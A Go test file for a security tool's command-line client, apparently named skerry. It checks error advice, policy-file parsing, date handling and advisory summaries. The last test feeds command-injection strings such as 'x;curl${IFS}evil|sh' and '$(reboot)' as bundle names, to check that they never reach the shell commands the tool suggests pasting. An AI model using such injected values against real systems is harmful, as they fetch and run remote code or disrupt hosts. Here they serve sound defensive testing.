package cli

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skerryhq/skerry/ui/schema"
)

// What a server refuses is said with the flag or the command that helps, and a slip in words of the product.
func TestAdvice(t *testing.T) {
	problem := schema.Problem{}
	_, a, out := newFleet(t, 1, func(_ int, w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet && r.URL.Path == "/api/v1/commands" {
			_ = json.NewEncoder(w).Encode(schema.Commands{Commands: []schema.Command{{ID: idA}, {ID: idB}, {ID: "02" + idC[2:]}}})
			return
		}
		if r.Method == http.MethodGet && strings.HasPrefix(r.URL.Path, "/api/v1/commands/02") {
			_ = json.NewEncoder(w).Encode(schema.Command{ID: "02" + idC[2:]})
			return
		}
		w.Header().Set("Content-Type", "application/problem+json")
		w.WriteHeader(http.StatusConflict)
		_ = json.NewEncoder(w).Encode(problem)
	})
	missing := schema.Problem{Kind: "invalid", Detail: "site: it is missing: one is asked", Errors: []schema.ProblemError{{Location: "query.site"}}}
	invalid := func(detail string) schema.Problem { return schema.Problem{Kind: "invalid", Detail: detail} }
	until := schema.Problem{Kind: "invalid", Detail: "body.until: soon", Errors: []schema.ProblemError{{Location: "body.until"}}}
	exists := schema.Problem{Kind: "exists", Detail: "there is one already"}
	file := filepath.Join(t.TempDir(), "b.zst")
	if err := os.WriteFile(file, []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args    string
		problem schema.Problem
		code    int
		says    string
	}{
		{"alerts list", missing, exitUsage, "(--site NAME)"},
		{"policies results x", missing, exitUsage, "(--site NAME)"},
		{"sites enroll oslo", exists, exitFailed, "`skerry sites token oslo`"},
		{"agents enroll web1", exists, exitFailed, "`skerry agents token web1`"},
		{"sites enroll oslo --lat foo", exists, exitUsage, `--lat: "foo" is not a number, as in 52.5;`},
		{"advisories search --severity bogus", invalid("search advisories: severity: bogus"), exitUsage, "skerry: --severity: bogus\n"},
		{"advisories search --changed-since bogus", invalid("search advisories: changed_since: bogus"), exitUsage, "skerry: --changed-since: bogus\n"},
		{"bundle export -o x.zst -c bogus", invalid("export bundle: from: bogus"), exitUsage, "skerry: --cursor: bogus\n"},
		{"bundle export -o /", exists, exitUsage, "-o /: that is a folder"},
		{"exposure diff --since bogus", invalid("from: bogus"), exitUsage, "skerry: --since: bogus\n"},
		{"exposure accept CVE-1 --until bogus --reason r", until, exitUsage, "skerry: --until: soon\n"},
		{"keys generate k --purpose bogus", invalid("generate key: purposes: bogus"), exitUsage, "skerry: --purpose: bogus\n"},
		{"keys generate k", invalid("generate key: name: bogus"), exitFailed, "skerry: generate key: name: bogus\n"},
		{"sites policy x --allowed-sources bogus", invalid("put partner: allowed_sources: bogus"), exitUsage, "skerry: --allowed-sources: bogus\n"},
		{"bundle import " + file, invalid("one of the files is a whole bundle"), exitFailed, "whole bundle"},
		{"exposure host h --cursor x", invalid(`ask site a: read findings: "x" is no cursor; begin anew`), exitUsage, "skerry: --cursor: \"x\" is no cursor; begin anew\n"},
		{"commands get 02", exists, exitOK, "02a20040"},
		{"commands get 01a", exists, exitUsage, "2 commands have ids that begin with"},
		{"commands get 7", exists, exitFailed, `begins with "7"`},
		{"bundle import " + file, schema.Problem{Kind: "conflict", Detail: "this server holds everything; there is nothing to import"}, exitOK, "Nothing to do"},
		{"bundle import " + file, schema.Problem{Kind: "conflict", Detail: "gap"}, exitFailed, "gap"},
		{"bundle import " + file, schema.Problem{Kind: "conflict", Detail: "a conflict: nothing was imported. Choose which of them is to win"}, exitFailed, "--on-conflict prefer_remote"},
		{"bundle import " + file, schema.Problem{Kind: "denied", Detail: "Signature verification failed: no trusted key signed the bundle, and the policy of us-east does not allow to import it all the same"}, exitFailed, "`skerry sites add us-east --skip-signature-on-trusted`"},
		{"bundle import " + file, schema.Problem{Kind: "denied", Detail: "Site not allowed: the bundle is of us-east (01a), and imports of it are disabled here; add or enable that site first"}, exitFailed, "`skerry sites policy us-east --enabled true`"},
		{"bundle import " + file, schema.Problem{Kind: "denied", Detail: "Site not allowed: the bundle is of us-east (01a), and that name is another site's here; add this one by its id first"}, exitFailed, "first (`skerry sites add 01a`)\n"},
		{"bundle import " + file, schema.Problem{Kind: "too_large", Detail: "Bundle too large: it has 33031 bytes, and at most 10000 are taken of us-east; raise that bound, or export a smaller delta or parts"}, exitFailed, "`skerry sites policy us-east --max-bundle-size SIZE`"},
		{"sites add Berlin", exists, exitUsage, `"Berlin" is no name`},
	} {
		problem = c.problem
		out.Reset()
		if code := a.run(t.Context(), strings.Fields(c.args)); code != c.code || !strings.Contains(out.String(), c.says) {
			t.Errorf("%s: exit code %d: %s", c.args, code, out)
		}
	}
}

// What a server prints of a policy can be given to it again, and a mistake says where it is.
func TestPolicyFileAsItWasPrinted(t *testing.T) {
	a, _ := quiet()
	for text, want := range map[string]string{
		"id: x\nname: base\nkind: compliance_baseline\nversion: 3\nbody: {checks: []}\norigin: controller\nby: kim\nat: 2026-01-02T03:04:05Z\nchecks_n: 1\nheld: {current: 1}\nheld_by: []\n": "",
		"name: base\nkinds: x\n": `no member "kinds"`,
		"name: [1]\n":            "name: it is a array",
		"- x\n":                  "want the members of a policy",
	} {
		file := filepath.Join(t.TempDir(), "p.yaml")
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		p, err := a.policyFile(file)
		if want == "" {
			if err != nil || p.Name != "base" || p.Version != 3 || string(p.Body) != `{"checks":[]}` {
				t.Errorf("%s: %+v, %v", text, p, err)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", text, err)
		}
	}
}

// A plain day is its beginning or, where something ends, its end; whatever else was written stays.
func TestDays(t *testing.T) {
	for _, c := range []struct {
		text, want string
		end        bool
	}{
		{"2026-12-31", "2026-12-31T00:00:00Z", false},
		{"2026-12-31", "2027-01-01T00:00:00Z", true},
		{"2026-02-30", "2026-02-30", true},
		{"7d", "7d", true},
		{"2026-12-31T10:00:00Z", "2026-12-31T10:00:00Z", true},
	} {
		var got string
		if err := (moment{text: &got, end: c.end}).Set(c.text); err != nil || got != c.want {
			t.Errorf("%s: %q, %v; want %q", c.text, got, err, c.want)
		}
	}
}

// What many records say alike is one line of a table.
func TestSaidOthers(t *testing.T) {
	r := schema.Resolved{From: "nvd/CVE-1", Value: "high", Said: []schema.Said{
		{From: "nvd/CVE-1", Value: "high", Agrees: true},
		{From: "bitnami/B-1", Value: "low"},
		{From: "osv/O-1", Value: "high", Agrees: true},
		{From: "bitnami/B-2", Value: "low"},
		{From: "bitnami/B-3", Value: "low", Withdrawn: true},
		{From: "ghsa/G", Value: strings.Repeat("é", 300)},
	}}
	want := "bitnami (2): low|bitnami: low (withdrawn)|ghsa: " + strings.Repeat("é", mostCell-1) + "…"
	if got := strings.Join(saidOthers(r, false, true), "|"); got != want {
		t.Errorf("%s", got)
	}
	if got := saidOthers(r, true, false); len(got) != 5 || got[1] != "osv/O-1: high" {
		t.Errorf("with all: %q", got)
	}
}

// The name that a bundle carries is whatever its maker wrote, and what is offered to be pasted into a shell has no other names in it than
// those of servers.
func TestAdviceIsOfNamesOnly(t *testing.T) {
	refusals := []string{
		"Signature verification failed: no trusted key signed the bundle, and the policy of %s does not allow to import it all the same",
		"Site not allowed: the bundle is of %s (01a), and imports of it are disabled here; add or enable that site first",
		"Bundle too large: it has 33031 bytes, and at most 10000 are taken of %s; raise that bound, or export a smaller delta or parts",
	}
	for _, refusal := range refusals {
		if got := importAdvice(fmt.Errorf(refusal, "us-east")).Error(); !strings.Contains(got, " us-east ") || !strings.Contains(got, "`skerry ") {
			t.Error(got)
		}
		for _, name := range []string{
			"x;curl${IFS}evil|sh", "$(reboot)", "`reboot`", "x\nus-east", "a b", "-force", "us-east (01b), and", "us-east; raise that bound, or x", "us-east (01b), and x; add", strings.Repeat("a", 65),
			"us-east does not allow to import it all the same", "x, and the policy of us-east",
		} {
			text := fmt.Sprintf(refusal, name)
			if got := importAdvice(errors.New(text)).Error(); got != text {
				t.Errorf("%q: %s", name, got)
			}
		}
	}
	taken := "Site not allowed: the bundle is of %s (01a), and that name is another site's here; add this one by its id first"
	for _, name := range []string{"us-east", "a (us-east), and x", "a b", "(us-east), and x; add this one by its id first"} {
		text := fmt.Sprintf(taken, name)
		if got := importAdvice(errors.New(text)).Error(); got != text+" (`skerry sites add 01a`)" {
			t.Errorf("%q: %s", name, got)
		}
	}
}
